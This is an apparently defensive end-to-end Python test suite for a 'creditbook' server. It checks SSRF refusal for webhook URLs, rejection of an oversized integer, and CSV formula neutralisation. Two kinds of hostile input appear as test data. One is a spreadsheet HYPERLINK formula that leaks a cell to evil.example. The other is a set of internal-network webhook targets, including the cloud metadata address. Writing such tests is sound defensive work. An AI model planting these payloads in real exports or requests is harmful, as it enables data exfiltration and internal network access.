"""End to end against a real ``creditbook serve``: a webhook to the server's own network, a
number past 64 bits and a planted formula, as an attacker would send them with curl."""

from __future__ import annotations

import csv
import io
import socket
import time

from e2e_helpers import OPERATOR_KEY, Server

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A2,"Click me")'


def _admin_key(server: Server) -> str:
    with server.client(OPERATOR_KEY) as op:
        made = op.post("/v1/teams", json={"name": "Target", "admin_email": "ada@target.example"})
        assert made.status_code == 201, made.text
        team_id = made.json()["team"]["id"]
        granted = op.post(
            f"/v1/teams/{team_id}/grants",
            json={"credits": 100, "category": "purchased", "reason": "bought"},
        )
        assert granted.status_code == 201, granted.text
    key: str = made.json()["admin_api_key"]
    return key


def test_the_server_refuses_a_webhook_to_its_own_network_and_never_connects_to_it(
    server: Server,
) -> None:
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen(1)
        listener.settimeout(0.5)
        port = listener.getsockname()[1]
        with server.client(_admin_key(server)) as admin:
            for url in (f"http://127.0.0.1:{port}/", f"http://2130706433:{port}/",
                        "http://169.254.169.254/latest/meta-data/"):  # fmt: skip
                answer = admin.put("/v1/settings", json={"webhook_url": url})
                assert answer.status_code == 422, answer.text
                assert answer.headers["content-type"].startswith("application/problem+json")
                assert answer.json()["code"] == "unsafe_url"
        try:
            listener.accept()
            raise AssertionError("the server connected to the refused address")
        except TimeoutError:
            pass


def test_the_server_answers_a_credit_limit_past_64_bits_with_422(server: Server) -> None:
    with server.client(_admin_key(server)) as admin:
        body = {"leads": [{"first_name": "A", "last_name": "B", "company_domain": "b.example"}],
                "features": ["email_finder"], "credit_limit": 2**63}  # fmt: skip
        answer = admin.post("/v1/enrichment-jobs", json=body)
        assert answer.status_code == 422, answer.text
        assert answer.json()["code"] == "validation_error"


def test_the_servers_results_csv_neutralises_a_planted_formula(server: Server) -> None:
    with server.client(_admin_key(server)) as admin:
        lead = {"first_name": HYPERLINK, "last_name": "B", "company_domain": "b.example"}
        made = admin.post(
            "/v1/enrichment-jobs",
            json={"leads": [lead], "features": ["email_finder"], "provider": "sandbox"},
        )
        assert made.status_code == 201, made.text
        job_id = made.json()["job"]["id"]
        deadline = time.monotonic() + 20
        while admin.get(f"/v1/enrichment-jobs/{job_id}").json()["job"]["status"] != "completed":
            assert time.monotonic() < deadline, "the job never completed"
            time.sleep(0.05)
        exported = admin.get(f"/v1/enrichment-jobs/{job_id}/results.csv")
    [row] = list(csv.DictReader(io.StringIO(exported.text)))
    assert row["first_name"] == "'" + HYPERLINK
